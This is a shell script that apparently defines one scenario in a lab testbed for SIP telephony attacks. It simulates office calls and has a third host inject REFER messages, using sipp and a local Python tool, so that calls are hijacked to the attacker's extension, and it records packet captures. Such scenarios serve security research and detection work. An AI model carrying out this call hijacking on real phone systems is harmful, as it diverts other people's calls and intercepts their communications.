# A computer inside that has an extension of its own takes over calls: it sends the calling phones
# REFERs in the called phones' name, and they call that extension, which answers.
relocate example.com 5060 172.23.90 198.51.100
EXTENSIONS=(561 562 563 564 565 566)
EXISTING='^5[6-7][0-9]$'
WEAK=none
open_office
add_attacker third 172.23.90.120
echo "575 hijack" >>"$scratch/users"
caller register-third third register -s 575 -au 575 -ap secret575
wait_for register-third
start_office_capture
keep_alive 12
office_day 417 85 13-76
n=0
for pair in "562 564" "565 561" "563 566"; do
    read -r from to <<<"$pair"
    second=$((19 + 18 * n))
    at "$second" tell "$from" dial "sip:$to@$DOMAIN"
    at "$((second + 2))" tell "$to" accept
    at "$((second + 11))" tell "$from" hangup
    at "$((second + 13))" tell "$to" hangup
    at "$((second + 14))" tell "$from" hangup
    n=$((n + 1))
done
story="A third host sends REFERs into running calls: the calling phones call its own extension, which answers."
at 17 attack A1-1 hijack:call_hijack third 5060 "$story" "$(version_of sipp)" \
    env TERM=dumb sipp -sf "$parts/sipp/callee.xml" -nostdin -m 3 -l 3 -key parameters "" -timeout 60s \
    -i 172.23.90.120 -mi 172.23.90.120 -p 5060 -s 575
at 18 attack A1-2 hijack:call_hijack third 5069 "$story" \
    "a Python program of this directory" "$here/intrude" "$scratch/$recording.pcap" 172.23.90.1 REFER caller 172.23.90.120:5069 3 60 575
within_calls_of_others A1
play
wait_for A1-1 A1-2
close_office
expect_said A1-2 'SIP/2.0 202' 'messages sent: 3'
